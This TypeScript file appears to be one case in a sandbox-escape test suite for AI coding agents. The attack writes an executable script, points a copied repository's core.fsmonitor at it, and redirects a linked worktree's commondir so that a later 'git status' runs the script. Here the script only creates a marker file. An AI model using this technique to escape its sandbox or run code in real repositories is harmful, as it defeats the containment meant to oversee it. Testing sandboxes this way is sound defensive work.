import { type Attack, sh } from '../attack.js'
import { linkedWorktree, sprung } from '../repository.js'

export const attack: Attack = {
  id: 'git/worktree-private-files',
  tries: 'to write what a linked worktree keeps in the main repository, which is writable itself',
  source: 'srt 4B.1, 10; codex issue 19786',
  rules: { main: 'write' },
  prepare: (stage) => linkedWorktree(stage),
  program: sh`printf '#!/bin/sh\n: > "$OUT/sprung"\n' > "$S/evil" && chmod +x "$S/evil"
cp -r "$STAGE/main/.git" "$S/common" && git --git-dir "$S/common" config core.fsmonitor "$S/evil"; echo "$S/common" > "$STAGE/main/.git/worktrees/w/commondir"`,
  succeeded: sprung('w', 'status'),
  control: 'plain',
}
